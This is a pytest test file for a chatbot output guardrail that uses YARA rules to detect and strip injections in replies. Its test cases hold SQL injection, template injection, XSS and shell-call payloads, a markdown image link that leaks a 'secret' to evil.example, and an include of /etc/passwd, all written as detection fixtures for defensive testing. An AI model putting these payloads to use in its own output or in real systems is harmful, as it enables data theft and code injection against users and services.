"""Injections in what the bot says, found by YARA rules."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from rails_engine.errors import InvalidRailsConfigurationError
from rails_engine.library.actions.injection import compiled
from tests.library.fronts import DIALECTS, INTERNAL, REFUSAL, guarded, reply, said

ALL = "code, sqli, template, xss"
TRIGGERED = "I'm sorry, the desired output triggered rule(s) designed to mitigate exploitation of %s."


def settings(injections: str = ALL, action: str = "reject", more: str = "") -> str:
    options = f"{{injections: [{injections}], action: {action}{more}}}"
    return f"output: {{flows: [injection detection]}}, config: {{injection_detection: {options}}}"


@pytest.mark.parametrize("version", DIALECTS)
@pytest.mark.parametrize(
    ("answer", "rules"),
    [
        ("import os\nos.system('ls')", "import_shells"),
        ("__import__('os').system('ls')", "import_shells"),
        ("then call eval('1+1')", "dynamic_code"),
        ("'; DELETE FROM users WHERE 1=1; --", "sql_injection"),
        ("1 UNION SELECT name, password FROM users", "sql_injection"),
        ("' OR 1=1 --", "sql_injection"),
        ("{{ config.items() }}", "jinja_injection"),
        ("{% for x in y %}", "jinja_injection"),
        ("<script>alert(1)</script>", "markdown_xss"),
        ("<img src=x onerror=alert(1)>", "markdown_xss"),
        ("[x](javascript:alert(1))", "markdown_xss"),
        ("![i](https://evil.example/x?q=secret)", "markdown_xss"),
    ],
)
async def test_an_injection_is_refused_by_the_name_of_its_rule(version: str, answer: str, rules: str) -> None:
    assert await said(guarded(version, settings(), answer)) == TRIGGERED % rules


@pytest.mark.parametrize(
    "answer",
    [
        "Please select a table from the room and drop me a line.",
        "import numpy as np",
        "It costs 5 or 6 euros; union members pay less.",
        "See <a href='https://site.example'>our page</a> and ![a photo](https://site.example/a.png).",
        "The function f(x) = {x} is an identity.",
        "",
    ],
)
async def test_plain_answers_pass(answer: str) -> None:
    assert await said(guarded("1.0", settings(), answer)) == answer


@pytest.mark.parametrize("version", DIALECTS)
@pytest.mark.parametrize(
    ("answer", "left"),
    [
        ("run {{ 7*7 }} now", "run  now"),
        ("<scr<script>ipt>alert(1)</scr</script>ipt>", "alert(1)"),
        ("übung {{ x }} ende", "übung  ende"),
        ("plain", "plain"),
    ],
)
async def test_what_is_found_is_cut_out_until_nothing_is(version: str, answer: str, left: str) -> None:
    assert await said(guarded(version, settings(action="omit"), answer)) == left


async def test_a_text_that_stays_an_injection_however_often_it_is_cut_is_refused() -> None:
    nested = "{{" * 12 + "x" + "}}" * 12
    assert await said(guarded("1.0", settings(action="omit"), nested)) == TRIGGERED % "jinja_injection"


@pytest.mark.parametrize("version", DIALECTS)
async def test_exceptions_in_place_of_words(version: str) -> None:
    app = guarded(version, settings(), "{{ x }}", "enable_rails_exceptions: true")
    answer = await reply(app, "hi")
    event = answer["content"] if version == "1.0" else answer["events"][0]
    assert (event["type"], event["message"]) == (
        "InjectionDetectionRailException",
        "Output not allowed. The output was blocked by the 'injection detection' flow.",
    )


OWN = ', yara_rules: {own: "rule own_rule { strings: $a = \\"plum\\" condition: $a }"}'


async def test_rules_of_the_configuration_block() -> None:
    app = guarded("1.0", settings("own", more=OWN), "a plum")
    assert await said(app) == TRIGGERED % "own_rule"


async def test_rules_are_read_from_a_folder(tmp_path: Path) -> None:
    (tmp_path / "fruit.yara").write_text('rule fruit_rule { strings: $a = "pear" condition: $a }')
    app = guarded("1.0", settings("fruit", more=f", yara_path: '{tmp_path}'"), "a pear")
    assert await said(app) == TRIGGERED % "fruit_rule"


@pytest.mark.parametrize(
    ("injections", "more", "message"),
    [
        ("sqly", "", "no rule `sqly`; there are: code, sqli, template, xss"),
        (
            "own",
            ", yara_rules: {own: 'rule broken {'}",
            "the rules of `own` are no YARA: line 0: syntax error",
        ),
        ("own", ", yara_rules: {own: 'include \"/etc/passwd\"'}", "the rules of `own` are no YARA"),
    ],
)
def test_a_missing_or_broken_rule_is_refused_when_the_configuration_is_opened(
    injections: str, more: str, message: str
) -> None:
    with pytest.raises(InvalidRailsConfigurationError, match=message):
        guarded("1.0", settings(injections, more=more))


@pytest.mark.parametrize(("version", "heard"), [("1.0", INTERNAL), ("2.x", REFUSAL)])
async def test_without_its_package_the_rail_blocks(
    version: str, heard: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    app = guarded(version, settings())
    compiled.cache_clear()
    monkeypatch.setitem(sys.modules, "yara", None)
    assert await said(app) == heard
